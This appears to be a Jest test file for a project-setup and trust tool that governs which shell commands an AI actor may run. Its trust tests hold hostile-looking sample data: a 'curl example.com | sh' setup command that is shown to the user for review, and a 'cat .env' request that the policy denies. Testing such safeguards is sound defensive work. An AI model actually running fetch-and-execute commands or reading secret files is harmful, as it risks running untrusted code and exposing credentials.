import { mkdirSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { createTempDir } from '@signalbox/testkit';
import { createGit } from '../src/git/git.js';
import { grantTrust, initProject, previewTrust, readConfig, readPolicy } from '../src/index.js';
import {
  filesToTrust,
  findHome,
  findRepository,
  findRoot,
  mainWorktree,
  projectPaths,
  untrustedFiles,
} from '../src/project/index.js';
import { findProjectCommands } from '../src/project/project-commands.js';
import { readIfPresent } from '../src/project/read-file.js';
import { add, type Project, withProject } from './support/bench.js';

const init = (project: Project, more: { folder?: string; base?: string; explicit?: boolean } = {}) =>
  initProject({
    folder: project.root,
    explicit: false,
    home: findHome(project.environment),
    environment: project.environment,
    ...more,
  });
const pathsOf = (project: Project) => projectPaths(project.root, findHome(project.environment));

describe('making a project', () => {
  it('writes what is missing, trusts what it wrote, and leaves the second time what is there', () =>
    withProject({ init: false }, async (project) => {
      const report = await init(project);
      const files = ['.ai/config.yaml', '.ai/policy.yaml', '.ai/ledger.pub'];
      expect(report).toEqual({ root: project.root, base: 'main', git: true, created: files, kept: [], setup: [] });
      expect(readConfig(pathsOf(project))).toMatchObject({ base: 'main', trusted: true, workspace: { setup: [] } });
      expect(untrustedFiles(pathsOf(project))).toEqual([]);
      expect(project.git('status', '--porcelain', '--untracked-files=all').split('\n')).toEqual(
        files.sort().map((file) => `?? ${file}`),
      );
      project.write('.ai/config.yaml', 'version: 1\nbase: other\n');
      expect(await init(project)).toMatchObject({ created: [], kept: expect.arrayContaining(files) });
      expect(project.read('.ai/config.yaml')).toBe('version: 1\nbase: other\n');
      expect(untrustedFiles(pathsOf(project))).toEqual(['.ai/config.yaml']);
    }));

  it('takes the base branch that is named, if there is one', () =>
    withProject({ init: false }, async (project) => {
      await expect(init(project, { base: 'release' })).rejects.toMatchObject({ code: 'NO_SUCH_BRANCH' });
      expect(readIfPresent(pathsOf(project).config)).toBeNull();
      project.git('branch', 'release');
      expect(await init(project, { base: 'release' })).toMatchObject({ base: 'release' });
    }));

  it('works outside of git, and where no branch is checked out', async () => {
    await withProject({ init: false, git: false }, async (project) => {
      expect(await init(project)).toMatchObject({ git: false, base: 'main', root: project.root });
    });
    await withProject({ init: false }, async (project) => {
      project.git('checkout', '--quiet', '--detach');
      expect(await init(project)).toMatchObject({ git: true, base: 'main' });
    });
  });

  it('goes to the top of the repository, or of the main one of a linked worktree, unless the folder is named', () =>
    withProject({ init: false }, async (project) => {
      const nested = join(project.root, 'src');
      expect(await init(project, { folder: nested, explicit: true })).toMatchObject({ root: nested });
      expect(await init(project, { folder: nested })).toMatchObject({ root: project.root });
      const linked = join(project.place, 'linked');
      project.git('worktree', 'add', '--quiet', linked);
      expect(await init(project, { folder: linked })).toMatchObject({ root: project.root, created: [] });
    }));

  it('proposes the install command of the lock file and allows the project’s own tests', () =>
    withProject(
      { init: false, files: { 'package.json': '{"scripts":{"test":"x","lint":"y"}}', 'package-lock.json': '{}' } },
      async (project) => {
        expect(await init(project)).toMatchObject({ setup: ['npm ci'] });
        expect(readConfig(pathsOf(project)).workspace).toMatchObject({ setup: ['npm ci'] });
        expect(project.read('.ai/policy.yaml')).toContain('argv: [npm, test, "..."]');
      },
    ));

  it('finds the commands of other ecosystems, and nothing in what it cannot read', () => {
    const dir = createTempDir();
    try {
      for (const name of ['go.mod', 'Cargo.toml', 'pyproject.toml', 'uv.lock']) writeFileSync(join(dir.path, name), '');
      expect(findProjectCommands(dir.path)).toEqual({
        setup: ['uv sync --frozen'],
        tests: [
          ...[
            ['go', 'test'],
            ['go', 'build'],
            ['go', 'vet'],
          ],
          ...[['cargo', 'test'], ['cargo', 'build'], ['cargo', 'check'], ['pytest']],
        ],
      });
      for (const text of ['no json', '[]', '{"scripts":7}', 'null']) {
        writeFileSync(join(dir.path, 'package.json'), text);
        expect(findProjectCommands(dir.path).tests).toContainEqual(['node', '--test']);
      }
      expect(() => readIfPresent(dir.path)).toThrow();
    } finally {
      dir.remove();
    }
  });
});

describe('finding a project', () => {
  it('is the nearest folder with .ai, else the repository', () =>
    withProject({ init: false }, async (project) => {
      const deep = join(project.root, 'src/deep');
      mkdirSync(deep, { recursive: true });
      expect(findRoot(deep)).toBe(project.root);
      mkdirSync(join(project.root, 'src/.ai'));
      expect(findRoot(deep)).toBe(join(project.root, 'src'));
      symlinkSync(deep, join(project.place, 'link'));
      expect(findRoot(join(project.place, 'link'))).toBe(join(project.root, 'src'));
      expect(findRoot(project.place)).toBeNull();
      expect(findRepository(project.place)).toBeNull();
    }));

  it('is the place in the main work tree from inside a linked one, but not from a submodule', () =>
    withProject({}, async (project) => {
      const linked = join(project.place, 'linked');
      project.git('worktree', 'add', '--quiet', linked);
      expect(findRoot(join(linked, 'src'))).toBe(project.root);
      expect(mainWorktree(linked)).toBe(project.root);
      project.git('-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', project.root, 'sub');
      expect(findRoot(join(project.root, 'sub'))).toBe(project.root);
      expect(mainWorktree(join(project.root, 'sub'))).toBe(join(project.root, 'sub'));
      const odd = join(project.place, 'odd');
      mkdirSync(odd);
      writeFileSync(join(odd, '.git'), 'nonsense\n');
      expect(mainWorktree(odd)).toBe(odd);
    }));

  it('is without a project outside of git', () =>
    withProject({ git: false }, async (project) => {
      expect(findRoot(project.root)).toBe(realpathSync(project.root));
    }));

  it('looks for the user’s part where the environment says', () => {
    expect(findHome({ SIGNALBOX_HOME: '/sb', HOME: '/h' })).toEqual({ config: '/sb', cache: '/sb/cache' });
    expect(findHome({ HOME: '/h' })).toEqual({ config: '/h/.config/signalbox', cache: '/h/.cache/signalbox' });
    expect(findHome({ HOME: '/h', XDG_CONFIG_HOME: '/c', XDG_CACHE_HOME: '/k' })).toEqual({
      config: '/c/signalbox',
      cache: '/k/signalbox',
    });
    expect(findHome({}).config).toMatch(/\.config\/signalbox$/);
  });
});

describe('a configuration with a mistake', () => {
  it.each([
    ['version: 1\nbase: [\n', /^\.ai\/config\.yaml:\d+:\d+: /],
    [
      'version: 1\nbase: main\nworkspace:\n  setup: 7\n',
      /^\.ai\/config\.yaml:4:10: workspace\.setup: must be a list, not a number\.$/,
    ],
    ['version: 2\nbase: main\n', /^\.ai\/config\.yaml:1:10: version: must be 1, not 2\.$/],
    ['version: 1\nbase: main\nbase: other\n', /^\.ai\/config\.yaml:3:1: .*unique/],
    ['version: 1\nbase: main\nnonsense: true\n', /^\.ai\/config\.yaml:3:11: "nonsense" is not known here\.$/],
    ['', /^\.ai\/config\.yaml is empty; it needs at least "version: 1"/],
    ['version: 1\n', /: base: it is missing\.$/],
    ['version: 1\nbase: &b main\nworkspace: { setup: [*b] }\n', /^\.ai\/config\.yaml:\d+:\d+: .*alias/i],
  ])('is refused with its place: %j', (text, message) =>
    withProject({}, async (project) => {
      project.write('.ai/config.yaml', text);
      await expect(project.open()).rejects.toMatchObject({
        code: 'CONFIG_INVALID',
        message: expect.stringMatching(message),
      });
    }),
  );
});

describe('trust', () => {
  it('is lost with an edit: what allows, and what acts, stops counting until the user agrees again', () =>
    withProject({}, async (project) => {
      const paths = pathsOf(project);
      expect(filesToTrust(paths)).toEqual([paths.config, paths.policy]);
      project.write('.ai/config.yaml', 'version: 1\nbase: main\nworkspace:\n  setup:\n    - npm ci\n');
      project.write(
        '.ai/policy/sh.yaml',
        'version: 1\nscope: ai\nrules:\n  - { id: x, effect: allow, on: [tool.call], reason: R }\n',
      );
      project.write('.ai/policy.yaml', `${project.read('.ai/policy.yaml')}# edited\n`);
      expect(untrustedFiles(paths)).toEqual(['.ai/config.yaml', '.ai/policy.yaml', '.ai/policy/sh.yaml']);
      const before = await project.open();
      expect(before.config).toMatchObject({ trusted: false, workspace: { setup: [] } });
      const ask = {
        actor: { kind: 'ai', id: 'sh' } as const,
        subject: 'project',
        action: { name: 'shell.run', command: 'ls' },
      };
      expect(before.door.judge(ask).decision).toBe('ask');
      // What tightens counts at once.
      expect(before.door.judge({ ...ask, action: { name: 'shell.run', command: 'cat .env' } }).decision).toBe('deny');

      const previews = previewTrust(paths);
      expect(previews.map(({ file, grants }) => [file, grants.map((grant) => grant.line)])).toEqual([
        ['.ai/config.yaml', [5]],
        ['.ai/policy.yaml', expect.arrayContaining([expect.any(Number)])],
        ['.ai/policy/sh.yaml', [4]],
      ]);
      grantTrust(paths, previews);
      expect(untrustedFiles(paths)).toEqual([]);
      const after = await project.open();
      expect(after.config.workspace).toMatchObject({ setup: ['npm ci'] });
      expect(after.door.judge(ask).decision).toBe('allow');
    }));

  it('shows what is granted however the file is written', () =>
    withProject({}, async (project) => {
      project.write('.ai/config.yaml', 'version: 1\nbase: main\nworkspace: { "setup": ["curl example.com | sh"] }\n');
      project.write(
        '.ai/policy.yaml',
        'version: 1\nscope: project\n"default": "allow"\nrules:\n  - { id: x, effect: "allow", on: [tool.call], reason: R }\n',
      );
      const grants = previewTrust(pathsOf(project)).map(({ file, grants }) => [file, grants]);
      expect(grants).toEqual([
        ['.ai/config.yaml', [{ line: 3, text: 'workspace: { "setup": ["curl example.com | sh"] }' }]],
        [
          '.ai/policy.yaml',
          [
            { line: 3, text: '"default": "allow"' },
            { line: 5, text: '  - { id: x, effect: "allow", on: [tool.call], reason: R }' },
          ],
        ],
      ]);
    }));

  it('is not given to a file that has changed while the user was looking', () =>
    withProject({}, async (project) => {
      const paths = pathsOf(project);
      project.write('.ai/config.yaml', 'version: 1\nbase: main\n');
      const previews = previewTrust(paths);
      project.write('.ai/config.yaml', 'version: 1\nbase: main\nworkspace: { setup: [evil] }\n');
      expect(() => grantTrust(paths, previews)).toThrow(expect.objectContaining({ code: 'STALE' }));
      expect(untrustedFiles(paths)).toEqual(['.ai/config.yaml']);
    }));

  it('is nobody’s where the record cannot be read, and needs no asking for the user’s own policy', () =>
    withProject({}, async (project) => {
      const paths = pathsOf(project);
      writeFileSync(paths.trust, 'no json');
      expect(untrustedFiles(paths)).toHaveLength(2);
      writeFileSync(
        paths.globalPolicy,
        'version: 1\nscope: global\nrules:\n  - { id: no, effect: deny, on: [task.create], reason: R }\n',
      );
      const box = await project.open();
      await expect(add(box)).rejects.toMatchObject({ code: 'POLICY_DENIED', details: { determining: ['global/no'] } });
      expect(readPolicy(paths, 0, '/bin', 'sh')).toBeDefined();
    }));
});

describe('git', () => {
  it('that is not there, or fails, is an error with a code', () =>
    withProject({}, async (project) => {
      const none = createGit(project.root, { PATH: project.place });
      await expect(none.run(['status'])).rejects.toMatchObject({ code: 'GIT_UNAVAILABLE' });
      await expect(init(project, { base: 'main' })).resolves.toMatchObject({ base: 'main' });
      const git = createGit(project.root, { ...project.environment, GIT_DIR: '/nowhere' });
      expect(await git.run(['rev-parse', '--show-toplevel'])).toBe(project.root);
      await expect(git.run(['rev-parse', 'nope'])).rejects.toMatchObject({ code: 'GIT_FAILED' });
    }));
});
